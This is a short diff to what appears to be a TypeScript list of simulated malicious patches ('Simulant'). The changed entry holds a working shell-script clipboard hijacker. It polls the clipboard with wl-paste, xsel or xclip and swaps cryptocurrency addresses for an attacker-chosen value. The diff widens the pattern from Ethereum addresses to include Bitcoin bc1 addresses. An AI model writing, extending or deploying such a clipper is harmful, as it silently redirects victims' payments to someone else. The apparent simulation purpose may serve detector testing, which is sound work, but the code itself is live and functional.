@@ -169,7 +169,7 @@ export const patches: readonly Simulant[] = [
           #!/bin/sh
           for i in 1 2 3; do
             c=$(wl-paste -n 2> /dev/null || xsel -b -o 2> /dev/null || xclip -selection clipboard -o 2> /dev/null)
-            n=$(printf %s "$c" | sed -E 's/0x[0-9a-fA-F]{40}/${fake}/g')
+            n=$(printf %s "$c" | sed -E 's/0x[0-9a-fA-F]{40}|bc1[a-z0-9]{25,60}/${fake}/g')
             [ "$c" = "$n" ] || printf %s "$n" | (wl-copy 2> /dev/null || xsel -b -i 2> /dev/null || xclip -selection clipboard -i)
             sleep 0.3
           done
